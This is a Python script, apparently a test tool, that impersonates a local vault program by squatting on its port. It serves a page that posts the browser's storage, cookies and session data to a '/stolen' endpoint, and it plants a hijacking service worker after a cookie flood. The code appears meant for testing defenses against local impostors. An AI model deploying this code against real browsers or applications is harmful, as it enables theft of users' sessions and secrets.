"""Somebody else on this computer: takes an address as soon as it is free, writes down all that comes, and answers.

    impostor.py HOST PORT state|page|worker

`state` answers as the program would for a locked vault; `page` has a page of its own, which sends what it finds in the
browser; `worker` plants that page as a service worker. Prints `ready`, then what came.
"""

import json
import socket
import struct
import sys
import threading
import time

STATE = {"revision": 1, "accounts": 0, "inputs": 0, "unsaved": 0, "workers": 2, "sources": {},
         "idle": {"seconds": 1800, "ends": "lock"}, "vault": {"file": "v.json", "exists": True, "locked": True}}
PAGE = """<!doctype html><title>Stolen</title><h1 id="thief">Unlock</h1><script>
fetch("/stolen", {method: "POST", body: JSON.stringify({
  address: location.href, session: {...sessionStorage}, local: {...localStorage},
  cookies: document.cookie, name: window.name, state: history.state, referrer: document.referrer})});
</script>"""
WORKER = f"""addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
addEventListener("fetch", (event) => {{
  if (event.request.mode === "navigate")
    event.respondWith(new Response({json.dumps(PAGE)}, {{headers: {{"Content-Type": "text/html"}}}}));
}});"""
PLANT = """<!doctype html><title>Planting</title><script>
for (let at = 0; at < 8; at += 1) document.cookie = `c${at}=${"x".repeat(3900)}; max-age=9999`;
navigator.serviceWorker.register("/worker.js").then(() => navigator.serviceWorker.ready)
  .then(() => { document.title = "Planted"; }, (error) => { document.title = `Refused: ${error}`; });
</script>"""


def answer(kind, path):
    if kind == "worker":
        return ("text/javascript", WORKER) if path == "/worker.js" else ("text/html", PLANT)
    return ("text/html", PAGE) if kind == "page" else ("application/json", json.dumps(STATE))


def serve(connection, kind):
    with connection:
        # Data that waits after an end would keep the port from others, including browsers.
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        data = b""
        while True:
            while b"\r\n\r\n" not in data:
                chunk = connection.recv(1 << 16)
                if not chunk:
                    return
                record(chunk)
                data += chunk
            head, _, data = data.partition(b"\r\n\r\n")
            lines = head.decode("latin-1").split("\r\n")
            length = next((int(line.split(":")[1]) for line in lines if line.lower().startswith("content-length:")), 0)
            while len(data) < length:
                chunk = connection.recv(1 << 16)
                if not chunk:
                    return
                record(chunk)
                data += chunk
            data = data[length:]
            kind_of, text = answer(kind, lines[0].split(" ")[1])
            body = text.encode()
            connection.sendall(f"HTTP/1.1 200 OK\r\nContent-Type: {kind_of}\r\nAccess-Control-Allow-Origin: *\r\n"
                               f"Content-Length: {len(body)}\r\n\r\n".encode() + body)


lock = threading.Lock()


def record(data):
    with lock:
        sys.stdout.buffer.write(data)
        sys.stdout.buffer.flush()


def main(host, port, kind):
    # As soon as the program is gone.
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    while True:
        try:
            listener.bind((host, int(port)))
            break
        except OSError:
            time.sleep(0.001)
    listener.listen(128)
    record(b"ready\n")
    while True:
        connection, _ = listener.accept()
        threading.Thread(target=guarded, args=(connection, kind), daemon=True).start()


def guarded(connection, kind):
    try:
        serve(connection, kind)
    except OSError:
        pass


if __name__ == "__main__":
    main(*sys.argv[1:])
